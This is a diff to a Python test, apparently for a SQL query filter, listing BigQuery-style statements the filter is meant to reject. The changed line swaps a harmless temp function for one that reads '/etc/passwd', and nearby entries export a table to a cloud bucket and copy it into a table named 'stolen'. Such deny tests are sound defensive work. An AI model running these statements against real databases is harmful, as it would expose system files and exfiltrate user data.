@@ -319,7 +319,7 @@ def test_a_task_that_rules_filter_out_takes_countif() -> None:
         "EXECUTE IMMEDIATE 'SELECT 1'",
         "DECLARE x INT64 DEFAULT 1",
         "BEGIN SELECT 1; END",
-        "CREATE TEMP FUNCTION f(x INT64) AS (x); SELECT f(1)",
+        "CREATE TEMP FUNCTION f(x STRING) AS (read_text(x)); SELECT f('/etc/passwd')",
         "CREATE TABLE stolen AS SELECT * FROM talks",
         "EXPORT DATA OPTIONS(uri='gs://x/*') AS SELECT * FROM talks",
         "LOAD DATA INTO talks FROM FILES (uris=['gs://x'])",
